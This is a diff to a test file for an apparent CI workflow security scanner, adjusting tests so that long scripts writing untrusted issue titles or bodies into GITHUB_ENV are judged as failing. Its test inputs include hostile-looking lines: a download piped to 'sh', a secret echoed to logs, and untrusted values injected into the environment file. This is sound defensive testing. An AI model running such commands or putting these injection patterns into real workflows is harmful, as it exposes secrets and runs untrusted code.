@@ -143,8 +143,6 @@ test.each([
 const LONG = 'x'.repeat(5000);
 
 test.each<[string, string, string]>([
-  ['the start of a block', RUNNER, `{\n${'echo "A=$TITLE"\n'.repeat(300)}} >> "$GITHUB_ENV"`],
-  ['the end of a line', RUNNER, `: ${LONG}; echo "A=$BODY" >> "$GITHUB_ENV"`],
   ['the end of a line that prints', LOGS, `: ${LONG}; echo "$KEY"`],
   ['the end of a line that downloads', UNVERIFIED, `: ${LONG}; curl https://get.example/a | sh`],
   ['a line that may start an agent', 'agents/open-agent', `: ${LONG}; claude -p "$TITLE"`],
@@ -153,6 +151,13 @@ test.each<[string, string, string]>([
     verdict: 'unknown',
     reason: expect.stringContaining('left out'),
   });
+});
+
+test.each([
+  ['a long block', `{\n${'echo "A=$TITLE"\n'.repeat(300)}echo "B=$BODY"\n} >> "$GITHUB_ENV"`],
+  ['a long line', `: ${LONG}; echo "A=$BODY" >> "$GITHUB_ENV"`],
+])('a script is followed to its end: %s', async (_, script) => {
+  expect(await verdictOf(RUNNER, script)).toMatchObject({ verdict: 'fail', reason: null });
 });
 
 test('a value of many lines is followed to its delimiter', async () => {
